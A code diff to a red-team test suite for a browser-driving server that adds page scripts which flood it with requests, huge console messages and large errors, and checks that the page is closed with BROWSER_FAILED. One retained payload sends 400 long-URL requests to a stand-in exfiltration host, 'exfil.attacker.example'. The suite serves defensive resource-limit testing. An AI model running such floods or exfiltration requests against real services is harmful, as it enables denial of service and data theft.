@@ -20,6 +20,15 @@ const FLOODS = {
    * 400 requests outside the allowed origins, each with a 100 KB URL. (Not to port 9 any more: Chromium refuses its
    * "unsafe" ports itself, before the gateway's egress proxy, so those never reach what reports refusals.)
    */
+  /**
+   * 10 000 HEAD requests to the app's own (allowed) origin, 200 at a time (6 000 at once would fail in Chromium and
+   * log each failure to the console), each answered: no console output, only the request counter sees them.
+   */
+  requestLoop: "(async () => { for (let b = 0; b < 50; b++) await Promise.all(Array.from({ length: 200 }, (_, i) => fetch(location.origin + '/?flood=' + b + '-' + i, { method: 'HEAD', cache: 'no-store' }).catch(() => undefined))); })();",
+  /** Four 6 MB console messages: 24 M characters in 4 events, far below the event limit. */
+  textFlood: "const big = 'z'.repeat(6000000); for (let i = 0; i < 4; i++) console.log(big + i);",
+  /** Four uncaught errors with 6 MB messages. */
+  errorTextFlood: "const big = 'e'.repeat(6000000); for (let i = 0; i < 4; i++) setTimeout(() => { throw new Error(big + i); }, 0);",
   blockedRequests: "for (let i = 0; i < 400; i++) { const img = new Image(); img.src = 'http://exfil.attacker.example/' + 'a'.repeat(100000) + '/' + i + '?q=' + i; }",
 } as const;
 
@@ -48,14 +57,19 @@ describe('red team: a page that floods the server with what it collects', functi
         COMPOSER_MCP_COMPOSER__CONNECTOR_UID: 'connector-1',
         COMPOSER_MCP_BROWSERS__SOURCE: 'local',
         COMPOSER_MCP_BROWSERS__LOCAL__COUNT: '1',
-        COMPOSER_MCP_BROWSERS__LEASE_DEADLINE_MS: '30000',
+        // Room for the request flood on a loaded machine (10-19 s at load 7): the lesson of that test renders at 50 s.
+        COMPOSER_MCP_BROWSERS__LEASE_DEADLINE_MS: '60000',
+        COMPOSER_MCP_COMPOSER__PAGE__READY_TIMEOUT_MS: '55000',
       },
     });
     client = await connectHttp(server.url);
     const saved = (await client.callTool({ name: 'composer_save_composition', arguments: { composition: everyWidgetComposition('Enchente') } })) as CallToolResult;
     uid = (saved.structuredContent as { uid: string }).uid;
   });
-  afterEach(() => standin.setAppScript(undefined));
+  afterEach(() => {
+    standin.setAppScript(undefined);
+    standin.resetFaults();
+  });
   after(async () => {
     await client?.close();
     await server?.stop();
@@ -105,6 +119,31 @@ describe('red team: a page that floods the server with what it collects', functi
     expect(canaryLeaks(server.stderr(), canaries)).to.deep.equal([]);
     await assertServerWhole();
   });
+
+  it('requestLoop: a page that only makes requests to its allowed origin is closed past 5 000 with BROWSER_FAILED and a fix', async () => {
+    standin.setAppScript(FLOODS.requestLoop);
+    standin.setFaults({ render: { delayMs: 50_000 } }); // the lesson renders after the flood, as a spinning page's would
+    const started = Date.now();
+    const result = await open();
+    expect(result.isError, JSON.stringify(result.content).slice(0, 300)).to.equal(true);
+    const text = JSON.stringify(result.content);
+    expect(text).to.contain('BROWSER_FAILED').and.contain('more than 5000 console messages, uncaught errors and requests').and.contain('Fix:');
+    expect(Date.now() - started, 'closed before the lesson would have rendered').to.be.below(50_000);
+    standin.resetFaults();
+    await assertServerWhole();
+  });
+
+  for (const [flood, what] of [['textFlood', 'four 6 MB console messages'], ['errorTextFlood', 'four uncaught errors of 6 MB']] as const) {
+    it(`${flood}: ${what} pass the 20 000 000-character limit and the page is closed with BROWSER_FAILED and a fix`, async () => {
+      standin.setAppScript(FLOODS[flood]);
+      const result = await open();
+      expect(result.isError, JSON.stringify(result.content).slice(0, 300)).to.equal(true);
+      const text = JSON.stringify(result.content);
+      expect(text).to.contain('BROWSER_FAILED').and.contain('more than 20000000 characters of console text and error messages').and.contain('Fix:');
+      expect(text.length, 'the error is short: none of the text comes back').to.be.below(2_000);
+      await assertServerWhole();
+    });
+  }
 
   for (const flood of ['consoleLoop', 'workerConsoleLoop'] as const) {
     it(`${flood}: the page is closed past 5 000 messages with BROWSER_FAILED and a fix (before: the server grew by about 1 GB and the browser failed its health check)`, async () => {
